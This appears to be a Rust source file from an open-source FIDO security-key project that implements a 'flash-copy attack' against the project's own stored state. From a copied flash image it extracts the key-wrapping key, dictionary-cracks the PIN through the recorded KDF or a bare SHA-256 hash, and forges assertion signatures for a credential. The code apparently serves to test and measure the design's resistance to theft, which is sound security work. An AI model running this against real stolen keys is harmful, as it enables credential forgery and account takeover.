//! The flash-copy attack: a program given only a copy of a key's state (the virtual key's
//! `state.lfs`, or a dump of a Pico's flash) and a credential ID a site handed out, that tries
//! to sign as that credential and to recover the PIN, as a thief would.
//!
//! It reads the state the way the key's code does, but on its own (it only shares the
//! credential format, which is public): the layout before the vault (`/dev/kwk` in littlefs, the
//! PIN's raw hash in `/dev/pin`), and the vault (two slots, the newest whole record): secrets in
//! the clear, or sealed under the PIN, which it then searches for with a dictionary, paying the
//! KDF the record names per guess. The USB serial number (public) is no help against either.

use std::time::{Duration, Instant};

use ciborium::Value;
use hmac::{Hmac, KeyInit, Mac};
use sha2::{Digest, Sha256};

/// Where things are in the copied image.
#[derive(Clone, Copy, Debug)]
pub enum Layout {
    /// `state.lfs`: the 16 MiB partition (4,096 blocks of 4 KiB), then the vault.
    VirtualKey,
    /// A dump of the Pico's 2 MiB flash: the vault at 0x7B000, the partition (384 blocks) at
    /// 0x80000.
    Pico,
}

impl Layout {
    fn vault(self, image: &[u8]) -> &[u8] {
        let at = match self {
            Layout::VirtualKey => 4096 * 4096,
            Layout::Pico => 0x7B000,
        };
        image.get(at..at + 2 * SLOT).unwrap_or(&[])
    }

    fn partition(self, image: &[u8]) -> &[u8] {
        match self {
            Layout::VirtualKey => &image[..(4096 * 4096).min(image.len())],
            Layout::Pico => image.get(0x80000..0x200000).unwrap_or(&[]),
        }
    }
}

const SLOT: usize = 8192;

/// What the attack got.
#[derive(Debug, Default)]
pub struct Outcome {
    /// The key-wrapping key, if the state gave it up.
    pub kwk: Option<[u8; 32]>,
    /// The PIN, if found (or the dictionary entry that matched).
    pub pin: Option<String>,
    /// PIN guesses tried, and the time they took.
    pub guesses: usize,
    pub spent: Duration,
    /// How the key-wrapping key was found (or why not).
    pub how: String,
}

impl Outcome {
    /// The cost of one guess, as measured.
    pub fn per_guess(&self) -> Duration {
        self.spent / self.guesses.max(1) as u32
    }

    /// Sign `message` as the credential `id` of `rp_id`: an assertion signature made without the
    /// key, if the key-wrapping key was recovered.
    pub fn forge(&self, rp_id: &str, id: &[u8], message: &[&[u8]]) -> Option<Vec<u8>> {
        let rp_id_hash: [u8; 32] = Sha256::digest(rp_id.as_bytes()).into();
        let credential = authenticator::credential::Credential::open(&self.kwk?, &rp_id_hash, id)?;
        Some(credential.sign(message).to_vec())
    }
}

/// Attack a copy of the state with a PIN dictionary.
pub fn attack(image: &[u8], layout: Layout, dictionary: &[&str]) -> Outcome {
    let mut outcome = Outcome::default();
    if let Some(record) = newest_vault_record(layout.vault(image)) {
        vault_attack(&record, dictionary, &mut outcome);
    } else {
        littlefs_attack(layout.partition(image), dictionary, &mut outcome);
    }
    outcome
}

/// The newest whole record in the vault's two slots (magic, format, sequence, length, body,
/// SHA-256), as `store::vault` writes them.
fn newest_vault_record(vault: &[u8]) -> Option<Vec<u8>> {
    let mut best: Option<(u32, Vec<u8>)> = None;
    for slot in vault.chunks(SLOT) {
        if slot.len() < 20 || &slot[..8] != b"OFKVAULT" || slot[8] != 1 {
            continue;
        }
        let sequence = u32::from_le_bytes(slot[12..16].try_into().ok()?);
        let len = u32::from_le_bytes(slot[16..20].try_into().ok()?) as usize;
        let Some(digest) = slot.get(20 + len..52 + len) else {
            continue;
        };
        if Sha256::digest(&slot[..20 + len]).as_slice() != digest {
            continue;
        }
        if best.as_ref().is_none_or(|(s, _)| sequence > *s) {
            best = Some((sequence, slot[20..20 + len].to_vec()));
        }
    }
    best.map(|(_, body)| body)
}

fn text_key<'v>(map: &'v Value, key: &str) -> Option<&'v Value> {
    map.as_map()?
        .iter()
        .find(|(k, _)| k.as_text() == Some(key))
        .map(|(_, v)| v)
}

fn kwk_of(secrets: &[u8]) -> Option<[u8; 32]> {
    let secrets: Value = ciborium::from_reader(secrets).ok()?;
    text_key(&secrets, "k")?
        .as_bytes()?
        .as_slice()
        .try_into()
        .ok()
}

fn vault_attack(record: &[u8], dictionary: &[&str], outcome: &mut Outcome) {
    let Ok(record) = ciborium::from_reader::<Value, _>(record) else {
        outcome.how = "the vault record does not parse".into();
        return;
    };
    if let Some(clear) = text_key(&record, "c").and_then(Value::as_bytes) {
        outcome.kwk = kwk_of(clear);
        outcome.how = "the vault holds the secrets in the clear (no PIN lock)".into();
        return;
    }
    let (Some(sealed), Some(verifier)) = (
        text_key(&record, "s").and_then(Value::as_bytes),
        text_key(&record, "p"),
    ) else {
        outcome.how = "no secrets found".into();
        return;
    };
    let number = |k: &str| {
        text_key(verifier, k)
            .and_then(|v| v.as_integer())
            .map(|i| u32::try_from(i).unwrap_or(0))
    };
    let bytes = |k: &str| {
        text_key(verifier, k)
            .and_then(Value::as_bytes)
            .cloned()
            .unwrap_or_default()
    };
    let (kdf, cost, memory) = (
        number("f"),
        number("c").unwrap_or(0),
        number("m").unwrap_or(0),
    );
    let (salt, check) = (bytes("s"), bytes("v"));
    let start = Instant::now();
    for pin in dictionary {
        outcome.guesses += 1;
        let pin_hash = &Sha256::digest(pin.as_bytes())[..16];
        let mut root = [0u8; 32];
        match kdf {
            Some(1) => pbkdf2::pbkdf2_hmac::<Sha256>(pin_hash, &salt, cost, &mut root),
            Some(2) => {
                let params = argon2::Params::new(memory, cost, 1, Some(32)).expect("parameters");
                argon2::Argon2::new(argon2::Algorithm::Argon2id, argon2::Version::V0x13, params)
                    .hash_password_into(pin_hash, &salt, &mut root)
                    .expect("Argon2id");
            }
            _ => break,
        }
        if hmac(&root, b"open-fido-key pin verifier") != check[..] {
            continue;
        }
        outcome.spent = start.elapsed();
        outcome.pin = Some(pin.to_string());
        let seal = hmac(&root, b"open-fido-key pin seal");
        outcome.kwk = unseal(sealed, &seal).and_then(|plain| kwk_of(&plain));
        outcome.how = "the PIN was in the dictionary: it opened the sealed secrets".into();
        return;
    }
    outcome.spent = start.elapsed();
    outcome.how = "sealed under the PIN, which is not in the dictionary".into();
}

fn hmac(key: &[u8], label: &[u8]) -> [u8; 32] {
    let mut mac = <Hmac<Sha256> as KeyInit>::new_from_slice(key).expect("any key length");
    mac.update(label);
    mac.finalize().into_bytes().into()
}

fn unseal(sealed: &[u8], key: &[u8; 32]) -> Option<Vec<u8>> {
    use chacha20poly1305::aead::{AeadInOut, KeyInit as _};
    let (nonce, rest) = sealed.split_at_checked(24)?;
    let (ciphertext, tag) = rest.split_at_checked(rest.len().checked_sub(16)?)?;
    let mut plain = ciphertext.to_vec();
    chacha20poly1305::XChaCha20Poly1305::new(key.into())
        .decrypt_inout_detached(
            nonce.try_into().ok()?,
            b"open-fido-key vault secrets 1",
            (&mut plain[..]).into(),
            tag.try_into().ok()?,
        )
        .ok()?;
    Some(plain)
}

/// The layout before the vault: `/dev/kwk` in the clear, `/dev/pin` holding LEFT(SHA-256(PIN),
/// 16), which a dictionary matches at the cost of one SHA-256 per guess.
fn littlefs_attack(partition: &[u8], dictionary: &[&str], outcome: &mut Outcome) {
    use littlefs2::fs::{Allocation, Filesystem};
    let mut storage = ImageStorage(partition.to_vec());
    let mut alloc = Allocation::new();
    let Ok(fs) = Filesystem::mount(&mut alloc, &mut storage) else {
        outcome.how = "neither a vault nor a filesystem".into();
        return;
    };
    if let Ok(kwk) = fs.read::<32>(littlefs2::path!("/dev/kwk")) {
        outcome.kwk = kwk.as_slice().try_into().ok();
        outcome.how = "/dev/kwk in the clear".into();
    }
    if let Ok(pin) = fs.read::<1280>(littlefs2::path!("/dev/pin")) {
        let stored = ciborium::from_reader::<Value, _>(&pin[..])
            .ok()
            .and_then(|v| text_key(&v, "h").and_then(Value::as_bytes).cloned());
        let start = Instant::now();
        for pin in dictionary {
            outcome.guesses += 1;
            if stored.as_deref() == Some(&Sha256::digest(pin.as_bytes())[..16]) {
                outcome.pin = Some(pin.to_string());
                break;
            }
        }
        outcome.spent = start.elapsed();
    }
}

/// The copied partition as a read-only littlefs device (4 KiB blocks, 16-byte reads).
struct ImageStorage(Vec<u8>);

impl littlefs2::driver::Storage for ImageStorage {
    const READ_SIZE: usize = 16;
    const WRITE_SIZE: usize = 16;
    const BLOCK_SIZE: usize = 4096;
    const BLOCK_COUNT: usize = 4096;
    const BLOCK_CYCLES: isize = 500;
    type CACHE_SIZE = littlefs2::consts::U256;
    type LOOKAHEAD_SIZE = littlefs2::consts::U16;

    fn read(&mut self, off: usize, buf: &mut [u8]) -> littlefs2::io::Result<usize> {
        // Past the copy's end (a Pico's smaller partition) reads as erased flash.
        buf.fill(0xff);
        if let Some(src) = self.0.get(off..) {
            let n = src.len().min(buf.len());
            buf[..n].copy_from_slice(&src[..n]);
        }
        Ok(buf.len())
    }

    fn write(&mut self, _: usize, _: &[u8]) -> littlefs2::io::Result<usize> {
        Err(littlefs2::io::Error::IO)
    }

    fn erase(&mut self, _: usize, _: usize) -> littlefs2::io::Result<usize> {
        Err(littlefs2::io::Error::IO)
    }
}
